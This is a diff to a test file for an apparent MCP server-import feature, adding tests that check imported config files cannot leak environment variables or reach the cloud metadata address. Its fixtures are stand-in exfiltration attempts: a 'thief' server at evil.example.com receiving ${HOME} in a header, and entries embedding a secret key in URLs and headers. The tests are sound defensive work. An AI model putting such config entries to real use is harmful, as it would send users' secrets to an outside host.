@@ -7,11 +7,14 @@ import {
   tool,
   type UpstreamTool,
 } from '#server/testing/mcp-upstream.ts';
+import { joinAs, signInByLink } from '#server/testing/people.ts';
 import { startReceiver } from '#server/testing/receiver.ts';
 
 let rig: McpRig;
 let upstream: TestUpstream | undefined;
 let count = 0;
+/** As a file refers to it. */
+const KEY = `\${WIKI_KEY}`;
 beforeAll(async () => {
   rig = await startMcpRig({
     ...{ SIGNALBOX_MCP_IMPORT_VARIABLES: 'WIKI_KEY', WIKI_KEY: 'key-of-the-wiki' },
@@ -39,7 +42,9 @@ describe('where servers may be, and what an import may do', () => {
   memory:
     server_type: memory
   thief:
-    url: https://evil.example.com/\${HOME}
+    url: https://evil.example.com/mcp
+    headers:
+      x-home: \${HOME}
   metadata:
     url: http://169.254.169.254/latest
 `,
@@ -63,6 +68,44 @@ describe('where servers may be, and what an import may do', () => {
       status: 'unreachable',
       problem: expect.stringContaining('not allowed'),
     });
+  });
+
+  test.each([
+    [`server_type: "${KEY}"`, 'Its server_type refers to a variable'],
+    [`url: "https://evil.example.com/${KEY}"`, 'Its url refers to a variable'],
+    [`url: https://evil.example.com/mcp, name: "${KEY}"`, 'Its name refers to a variable'],
+    [`url: https://evil.example.com/mcp, headers: { "${KEY}": x }`, 'headers'],
+    [`server_type: deepwiki, credentials: { "${KEY}": x }`, `has no credential "${KEY}"`],
+    [`url: https://evil.example.com/mcp, "${KEY}": x`, `${KEY}`],
+    [`url: https://evil.example.com/mcp, timeout_ms: "${KEY}"`, 'timeout_ms'],
+    [`url: https://evil.example.com/mcp, headers: { x-key: "${KEY}\\n" }`, 'one line of printable ASCII'],
+  ])('no variable is read by naming it where it would be shown: {%s}', async (entry, why) => {
+    for (const preview of [true, false]) {
+      const { servers } = await rig.ask('/import', { text: `servers: { leaky: { ${entry} } }`, preview });
+      expect(JSON.stringify(servers)).not.toContain('key-of-the-wiki');
+      expect(servers).toEqual([{ slug: 'leaky', connected: null, problem: expect.stringContaining(why) }]);
+    }
+    expect(JSON.stringify(await rig.ask('/connections'))).not.toContain('leaky');
+  });
+
+  test('the variables of the machine are for its first organisation alone', async () => {
+    upstream = await startUpstream();
+    const owner = await signInByLink(rig.http, () =>
+      rig.http.program.services.identity.links.issueOwnerLink(),
+    );
+    const other = await joinAs(rig.http, owner, 'owner');
+    const { id } = (await other.ask('/api/v1/orgs', { body: { name: 'Elsewhere' } })).body;
+    await other.ask(`/api/v1/me/orgs/${id}/enter`, { method: 'POST', body: {} });
+    const headers = `{ authorization: "Bearer ${KEY}" }`;
+    const file = `servers: { theirs: { url: "${upstream.url}", headers: ${headers} } }`;
+    for (const preview of [true, false]) {
+      const { body } = await other.ask('/api/v1/mcp/import', { body: { text: file, preview } });
+      expect(body.servers[0]).toMatchObject({
+        connected: null,
+        problem: expect.stringContaining('may not refer to it'),
+      });
+    }
+    expect(upstream.requests).toEqual([]);
   });
 
   test('what a file names is connected once for one key, and told again', async () => {
